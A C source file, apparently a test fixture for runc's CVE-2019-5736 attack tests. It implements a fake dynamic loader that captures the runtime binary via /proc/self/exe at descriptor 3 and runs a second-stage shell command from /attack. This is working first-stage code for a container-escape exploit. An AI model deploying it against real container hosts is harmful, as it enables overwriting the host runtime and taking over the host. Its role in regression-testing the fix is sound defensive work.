/* rc-fakeld - an ELF interpreter an image could hold, for the attack tests
 * of runc's CVE-2019-5736 (tests/oci.bats): placed at the path of the
 * dynamic loader (/lib64/ld-linux-x86-64.so.2) in a container's root, it
 * is what the kernel runs when the container's command is a script whose
 * interpreter is /proc/self/exe and /proc/self/exe is still the runtime's
 * binary. It prints "loader ran: exe=TARGET" and opens /proc/self/exe
 * (O_PATH, at descriptor 3, inherited), then executes `/bin/sh -c CMD`
 * with CMD from the file /attack in the container: the second stage, which
 * tries to write through /proc/self/fd/3 once no process runs the binary.
 *
 * No C library: as an interpreter it is started with the auxiliary vector
 * of the binary it was asked to load, which a libc's start-up would read
 * as its own.
 */
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

static unsigned long len(const char *s)
{
	unsigned long n = 0;

	while (s[n])
		n++;
	return n;
}

static void out(const char *s)
{
	sys3(SYS_write, 1, (long)s, (long)len(s));
}

/* The kernel enters with the stack 16-byte aligned, as a call's target
 * never is: realign and call the C entry. */
__asm__(".globl _start\n_start:\n\txor %rbp, %rbp\n\tand $-16, %rsp\n\tcall start_c\n\thlt\n");

void start_c(void);

void start_c(void)
{
	static char exe[512], cmd[4096];
	long n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)exe, sizeof exe - 1), fd;
	char *argv[] = { "sh", "-c", cmd, 0 }, *envp[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", 0 };

	exe[n > 0 ? n : 0] = 0;
	out("loader ran: exe=");
	out(exe);
	out("\n");
	fd = sys3(SYS_open, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
	if (fd >= 0 && fd != 3) {
		sys3(SYS_dup2, fd, 3, 0);
		sys3(SYS_close, fd, 0, 0);
	}
	fd = sys3(SYS_open, (long)"/attack", 0, 0);
	n = fd >= 0 ? sys3(SYS_read, fd, (long)cmd, sizeof cmd - 1) : 0;
	cmd[n > 0 ? n : 0] = 0;
	sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
	sys3(SYS_exit_group, 126, 0, 0);
}
